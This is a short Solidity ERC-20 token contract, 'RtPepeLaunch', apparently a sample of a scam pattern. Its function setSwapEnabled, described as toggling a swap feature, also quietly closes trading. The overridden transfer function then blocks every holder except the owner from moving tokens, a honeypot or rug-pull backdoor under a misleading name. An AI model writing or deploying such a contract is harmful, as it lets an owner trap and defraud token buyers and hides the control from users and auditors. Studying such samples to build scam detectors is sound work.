// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite, RtOwnable} from "./RtCommon.sol";

/// @title RtPepeLaunch
/// @notice Owner-toggled trading switch: while trading is closed only the
/// owner's own transfers go through. The owner can close it again at will.
contract RtPepeLaunch is RtERC20Lite, RtOwnable {
    address public pair;
    bool private tradingOpen;
    bool private swapEnabled;

    constructor(address router) RtERC20Lite("Pepe Launch", "PEPEL", 18) {
        pair = _createPair(router);
        _mint(msg.sender, 69_000_000 ether);
    }

    function openTrading() external onlyOwner {
        tradingOpen = true;
        swapEnabled = true;
    }

    /// @notice Toggles the swap-back feature (and, quietly, trading).
    function setSwapEnabled(bool on) external onlyOwner {
        swapEnabled = on;
        tradingOpen = on;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from != owner() && to != owner()) {
            require(tradingOpen, "Trading not open");
        }
        super._transfer(from, to, amount);
    }
}
